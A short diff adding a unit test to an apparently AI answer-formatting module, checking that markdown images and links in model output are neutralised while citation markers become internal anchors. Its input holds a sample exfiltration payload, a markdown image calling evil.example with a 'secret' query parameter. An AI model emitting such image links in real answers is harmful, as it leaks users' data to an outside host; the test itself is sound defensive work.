@@ -44,6 +44,14 @@ def test_answer_body__escapes_model_html() -> None:
     assert "&lt;script&gt;" in html
 
 
+def test_answer_body__model_text_cannot_form_markdown_images_or_links() -> None:
+    html = fmt.answer_body(
+        "See ![x](http://evil.example/a.png?q=secret) and [here](http://evil.example) [1].", turn="t"
+    )
+    assert "](" not in html and "![" not in html
+    assert 'href="#rag-src-t-1"' in html
+
+
 def test_answer_body__unsupported_marker_becomes_a_badge() -> None:
     html = fmt.answer_body("The moon is cheese. [unsupported]", turn="t")
     assert "[unsupported]" not in html
